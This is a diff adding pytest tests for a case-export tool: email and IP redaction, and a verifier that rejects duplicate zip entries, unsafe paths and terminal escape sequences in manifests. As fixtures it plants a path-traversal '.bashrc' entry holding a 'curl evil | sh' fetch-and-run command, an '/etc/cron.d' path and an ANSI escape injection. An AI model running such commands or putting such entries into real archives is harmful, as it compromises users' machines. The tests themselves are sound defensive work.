@@ -216,3 +216,80 @@ def test_the_export_command(db, store, tmp_path):
     assert "exported to" in cli("case", "show", "nightjar", "--db", db).output
     assert "cannot redact" in cli("case", "export", "nightjar", "--out", tmp_path / "x", "--redact", "names",
                                   "--db", db, expect=1).output  # fmt: skip
+
+
+def test_redaction_also_hashes_emails_and_ips_hidden_in_ids_joins_notes_and_reasons(store, tmp_path):
+    """An export keyed by email, a member joined through an IP pivot, notes naming addresses in
+    every shape: none of it leaves in clear, and the hashed id still joins member and samples."""
+    email_id = "o'brien.ops@evil-farm.io"
+    store.conn.execute("UPDATE accounts SET account_id = ? WHERE account_id = ?", (email_id, HOSTILE_ACCOUNTS[0]))
+    store.conn.execute("UPDATE requests SET account_id = ? WHERE account_id = ?", (email_id, HOSTILE_ACCOUNTS[0]))
+    store.conn.execute("UPDATE case_items SET key = ?, via = 'pivot on IP prefix 198.51.100.0/24' WHERE key = ?",
+                       (email_id, HOSTILE_ACCOUNTS[0]))  # fmt: skip
+    book = CaseBook(store)
+    book.note("nightjar", "first seen from 10.9.8.7. then ip:10.9.8.8, 10.9.8.9:8080, host_10.9.8.10, "
+              "::ffff:10.9.8.11 and root@localhost", "bo")  # fmt: skip
+    done = export_case(store, "nightjar", tmp_path / "shared", "cy", redact=["emails", "ips"])
+    planted = [email_id, "198.51.100.0", "10.9.8.7", "10.9.8.8", "10.9.8.9", "10.9.8.10", "10.9.8.11", "root@localhost"]
+    for path in done.folder.rglob("*"):
+        if path.is_file():
+            text = path.read_text(encoding="utf-8-sig")
+            assert not [p for p in planted if p in text], f"{path.name} leaks {[p for p in planted if p in text]}"
+    doc = json.loads(read(done.folder, "case.json"))
+    hashed = {m["account_id"] for m in doc["members"] if m["account_id"].startswith("sha256:")}
+    samples = [json.loads(line) for line in read(done.folder, "evidence/requests.jsonl").splitlines()]
+    assert len(hashed) == 1 and hashed <= {s["account_id"] for s in samples}
+
+
+def _zip_with(tmp_path, source_zip, extra: dict[str, bytes], drop: str | None = None, name="evil.zip"):
+    out = tmp_path / name
+    with zipfile.ZipFile(source_zip) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            if drop and info.filename.endswith(drop):
+                continue
+            dst.writestr(info, src.read(info))
+        for entry, data in extra.items():
+            dst.writestr(entry, data)
+    return out
+
+
+def test_verify_refuses_a_zip_with_a_second_copy_of_a_file(exported, tmp_path):
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name we are planting
+        evil = _zip_with(tmp_path, exported.zip_path, {"nightjar/report.html": b"<h1>forged</h1>"})
+    result = verify(evil)
+    assert not result.ok and any("more than once" in p for p in result.problems)
+
+
+def test_verify_refuses_unsafe_paths_in_a_zip_and_in_a_manifest(exported, tmp_path):
+    evil = _zip_with(tmp_path, exported.zip_path, {"../../.bashrc": b"curl evil | sh", "/etc/cron.d/x": b"x"})
+    problems = verify(evil).problems
+    assert any(p.startswith("../../.bashrc: an unsafe path") for p in problems)
+    assert any(p.startswith("/etc/cron.d/x: an unsafe path") for p in problems)
+    folder = exported.folder
+    manifest = json.loads(read(folder, "manifest.json"))
+    manifest["files"]["../outside.txt"] = {"sha256": "0" * 64, "bytes": 1}
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    assert "../outside.txt: an unsafe path in the manifest (absolute, or with ..)" in verify(folder).problems
+
+
+@pytest.mark.parametrize("files", [[], "report.md", {}, None])
+def test_verify_says_a_manifest_without_a_file_list_is_unreadable(exported, files):
+    folder = exported.folder
+    manifest = json.loads(read(folder, "manifest.json"))
+    manifest["files"] = files
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    result = verify(folder)
+    assert not result.ok and result.problems == ["manifest.json: unreadable (it lists no files)"]
+
+
+def test_case_verify_shows_a_foreign_manifest_literally(exported):
+    folder = exported.folder
+    manifest = json.loads(read(folder, "manifest.json"))
+    manifest["generated_at"] = "\x1b]0;owned\x07\x1b[2J"
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    out = cli("case", "verify", folder).output  # the files still match the rewritten manifest ...
+    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;owned" in out
+    assert exported.manifest_sha256 not in out  # ... but its own hash is not the one the sender gave
